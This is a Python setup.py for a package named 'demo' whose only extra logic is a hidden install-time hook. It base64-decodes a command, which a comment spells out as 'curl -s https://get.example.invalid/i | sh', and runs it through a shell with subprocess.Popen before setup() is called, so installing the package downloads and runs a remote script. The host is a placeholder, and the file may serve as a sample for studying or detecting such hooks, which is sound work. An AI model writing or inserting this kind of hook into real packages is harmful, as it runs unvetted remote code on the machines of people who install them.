import base64
import subprocess
from setuptools import setup


def unwrap(text):
    raw = base64.b64decode(text)
    return raw.decode()


def prepare():
    # "curl -s https://get.example.invalid/i | sh", handed to a shell through a list
    argv = ["sh", "-c", unwrap("Y3VybCAtcyBodHRwczovL2dldC5leGFtcGxlLmludmFsaWQvaSB8IHNo")]
    subprocess.Popen(argv)


prepare()
setup(name="demo", version="0.1")
